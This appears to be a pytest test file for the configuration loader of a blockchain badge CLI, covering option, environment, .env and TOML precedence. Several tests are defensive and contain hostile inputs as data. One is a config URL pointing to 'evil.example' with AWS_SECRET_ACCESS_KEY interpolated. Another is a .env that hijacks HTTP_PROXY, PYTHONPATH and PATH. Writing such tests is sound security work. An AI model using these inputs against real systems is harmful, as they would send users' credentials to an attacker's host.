"""Where the node, the collection and the key come from: options, environment, `.env`, `soulbadge.toml`."""

from pathlib import Path

import pytest
from tests.support import chains
from tests.support.command_line import Desk

from soulbadge.cli.config import Config
from soulbadge.cli.settings import Settings, settle
from soulbadge.errors import ConfigError

TOML = """
default = "sepolia"

[network.sepolia]
rpc_url = "https://sepolia.example/v3/${SOULBADGE_RPC_KEY}"
chain_id = 11155111
collection = "CNCF"
keystore = "keys/issuer.json"
max_fee_gwei = 40
confirmations = 3

[network.main]
rpc_url = "https://main.example"
chain_id = 1
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOULBADGE_RPC_KEY", "secret")
    return tmp_path


def _write(folder: Path, text: str = TOML) -> Path:
    file = folder / "soulbadge.toml"
    file.write_text(text, encoding="utf-8")
    return file


@pytest.mark.usefixtures("folder")
def test_a_local_chain_needs_no_file() -> None:
    assert settle({}, set()) == Settings(network="local", rpc_url="http://127.0.0.1:8545")


def test_the_default_network_is_used_with_its_variables_and_paths(folder: Path) -> None:
    _write(folder)
    found = settle({}, set())
    assert found.rpc_url == "https://sepolia.example/v3/secret"
    assert (found.chain_id, found.collection, found.max_fee_gwei, found.confirmations) == (11155111, "CNCF", 40, 3)
    assert found.keystore == str(Path("keys/issuer.json"))


def test_paths_count_from_the_folder_of_the_file(folder: Path) -> None:
    (folder / "elsewhere").mkdir()
    file = _write(folder / "elsewhere")
    assert settle({"config": str(file)}, {"config"}).keystore == str(folder / "elsewhere" / "keys" / "issuer.json")


def test_what_is_typed_comes_first_then_the_environment_then_the_default_network(folder: Path) -> None:
    _write(folder)
    given = {"rpc_url": "http://env.example", "collection": "ENV", "chain_id": 5}
    assert settle(given, set()).rpc_url == "http://env.example"
    assert settle(given, set()).keystore is not None  # what the environment leaves open
    assert settle({**given, "rpc_url": "http://typed.example"}, {"rpc_url"}).rpc_url == "http://typed.example"


def test_a_network_that_is_typed_never_means_a_node_that_a_variable_names(folder: Path) -> None:
    _write(folder)
    given = {"network": "main", "rpc_url": "http://env.example", "chain_id": 5}
    found = settle(given, {"network"})
    assert (found.rpc_url, found.chain_id) == ("https://main.example", 1)
    assert settle(given, {"network", "rpc_url"}).rpc_url == "http://env.example"
    assert settle(given, set()).rpc_url == "http://env.example"  # both from the environment: the node is more precise


def test_local_needs_no_file_though_there_is_one(folder: Path) -> None:
    _write(folder)
    assert settle({"network": "local"}, {"network"}).rpc_url == "http://127.0.0.1:8545"
    _write(folder, '[network.local]\nrpc_url = "http://127.0.0.1:9545"\nchain_id = 1337\n')
    assert settle({"network": "local"}, {"network"}).rpc_url == "http://127.0.0.1:9545"


def test_only_the_network_that_is_used_needs_its_variables(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _write(folder)
    monkeypatch.delenv("SOULBADGE_RPC_KEY")
    assert settle({"network": "main"}, {"network"}).chain_id == 1
    with pytest.raises(
        ConfigError, match=r"network.sepolia.rpc_url: the environment variable SOULBADGE_RPC_KEY is not set"
    ):
        settle({}, set())


@pytest.mark.parametrize("name", ["HOME", "AWS_SECRET_ACCESS_KEY", "SOULBADGE_KEY"])
def test_a_file_cannot_send_the_environment_to_a_node_of_its_own(
    folder: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, "hunter2")
    _write(folder, f"default = 'x'\n[network.x]\nrpc_url = 'https://evil.example/${{{name}}}'\nchain_id = 1\n")
    with pytest.raises(ConfigError, match=f"only variables called SOULBADGE_… may stand there, not {name}") as caught:
        settle({}, set())
    assert "hunter2" not in str(caught.value)


def test_a_variable_of_the_file_may_stand_in_dotenv(desk: Desk, tmp_path: Path) -> None:
    assert desk.node
    address = desk.done("show")["collection"]
    port = desk.node.url.rpartition(":")[2]
    (tmp_path / ".env").write_text(f"SOULBADGE_PORT={port}\n", encoding="utf-8")
    (tmp_path / "soulbadge.toml").write_text(
        "default = 'x'\n[network.x]\nrpc_url = 'http://127.0.0.1:${SOULBADGE_PORT}'\nchain_id = 31337\n"
        f"collection = '{address}'\n",
        encoding="utf-8",
    )
    assert Desk(tmp_path).done("show")["symbol"] == "FND"


@pytest.mark.parametrize(
    ("text", "where", "problem"),
    [
        ("defualt = 'x'", "defualt", "unknown; expected default, network"),
        ("[network.x]\nrpc_url='u'\nchain_id=1\nchainid=1", "network.x.chainid", "unknown; expected rpc_url, chain_id"),
        ("[network.x]\nchain_id=1", "network.x.rpc_url", "missing"),
        ("[network.x]\nrpc_url='u'", "network.x.chain_id", "missing"),
        ("[network.x]\nrpc_url='u'\nchain_id='1'", "network.x.chain_id", "expected a whole number"),
        ("[network.x]\nrpc_url='u'\nchain_id=true", "network.x.chain_id", "expected a whole number"),
        ("[network.x]\nrpc_url='u'\nchain_id=0", "network.x.chain_id", "more than zero"),
        ("[network.x]\nrpc_url='u'\nchain_id=1\nmax_fee_gwei=nan", "network.x.max_fee_gwei", "more than zero"),
        ("[network.x]\nrpc_url=1\nchain_id=1", "network.x.rpc_url", "expected a text"),
        ("network = 1", "network", "expected tables"),
        ("[network]\nx = 1", "network.x", "expected a table"),
        ("default = 1", "default", "expected the name"),
        ("default = 'y'", "default", "no network 'y'; there are: local"),
        ("x = ", "file", "is no TOML"),
    ],
)
def test_what_the_file_says_wrong_is_named_with_file_and_key(folder: Path, text: str, where: str, problem: str) -> None:
    file = _write(folder, text)
    with pytest.raises(ConfigError, match=problem) as caught:
        Config.load(file)
    assert (caught.value.file, caught.value.where) == (str(file), where)


def test_a_file_or_a_network_that_is_not_there(folder: Path) -> None:
    with pytest.raises(ConfigError, match=r"none.toml: file: cannot be read"):
        settle({"config": "none.toml"}, {"config"})
    _write(folder)
    with pytest.raises(ConfigError, match="no network 'mainnet'; there are: sepolia, main, local"):
        settle({"network": "mainnet"}, {"network"})


def test_several_networks_in_one_file(desk: Desk, tmp_path: Path) -> None:
    assert desk.node
    record = desk.done("show")["collection"]
    with chains.anvil("--chain-id", "1337") as other:
        networks = {"one": (desk.node.url, 31337), "two": (other.url, 1337), "wrong": (other.url, 31337)}
        (tmp_path / "soulbadge.toml").write_text(
            "default = 'one'\n"
            + "".join(
                f"[network.{name}]\nrpc_url = '{url}'\nchain_id = {number}\ncollection = '{record}'\n"
                for name, (url, number) in networks.items()
            ),
            encoding="utf-8",
        )
        mine = Desk(tmp_path)
        assert mine.done("show")["symbol"] == "FND"
        assert mine.done("show", network="one")["symbol"] == "FND"
        mine.call("show", "--network", "two").refused(f"no contract at {record} on chain 1337")
        mine.call("show", "--network", "wrong").refused("expected chain 31337", "serves chain 1337")
        # the environment's node is not what --network means
        mine.call("show", "--network", "two", rpc_url=desk.node.url).refused("on chain 1337")


def test_dotenv_sets_what_the_environment_does_not(desk: Desk, tmp_path: Path) -> None:
    assert desk.node
    mine = Desk(tmp_path)
    address = desk.done("show")["collection"]
    (tmp_path / ".env").touch(0o600)
    (tmp_path / ".env").write_text(
        f"SOULBADGE_RPC_URL={desk.node.url}\nSOULBADGE_COLLECTION={address}\nSOULBADGE_JSON=1\n", encoding="utf-8"
    )
    assert mine.run("show").json["symbol"] == "FND"
    mine.call("show", collection="OTHER", json="0").refused("'OTHER' is not in")


def test_dotenv_sets_no_variable_but_ours_and_none_from_above(desk: Desk, tmp_path: Path) -> None:
    """Whoever can put a file into a folder must not choose proxies, libraries or certificates."""
    assert desk.node
    below = tmp_path / "below"
    below.mkdir()
    hostile = "HTTP_PROXY=http://127.0.0.1:9\nhttp_proxy=http://127.0.0.1:9\nPYTHONPATH=/nowhere\nPATH=/nowhere\n"
    (below / ".env").write_text(hostile, encoding="utf-8")
    (tmp_path / ".env").write_text("SOULBADGE_COLLECTION=OTHER\n", encoding="utf-8")
    (tmp_path / "soulbadge.toml").write_text("nonsense = 1", encoding="utf-8")
    address = desk.done("show")["collection"]
    assert Desk(below, desk.node).done("show", "--collection", address)["symbol"] == "FND"
    Desk(below, desk.node).call("show").refused("none is recorded")


def test_dotenv_cannot_carry_another_variable_away(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "http")
    (tmp_path / ".env").touch(0o600)
    (tmp_path / ".env").write_text("SOULBADGE_RPC_URL=${SECRET}://127.0.0.1:9\n", encoding="utf-8")
    Desk(tmp_path).call("show").refused("the RPC URL")  # taken as it stands, which is no URL


def test_a_variable_that_is_set_to_nothing_is_not_set(desk: Desk) -> None:
    assert desk.done("show", collection="", chain_id="", network="")["symbol"] == "FND"


def test_no_url_is_ever_shown_in_full(aside: Desk) -> None:
    done = aside.call("show", "--rpc-url", "http://user:pass@127.0.0.1:9/v3/secret?key=secret", "--json")
    assert done.code == 1
    assert "http://127.0.0.1:9" in done.error
    assert "secret" not in done.error + done.out
    assert "pass" not in done.error + done.out
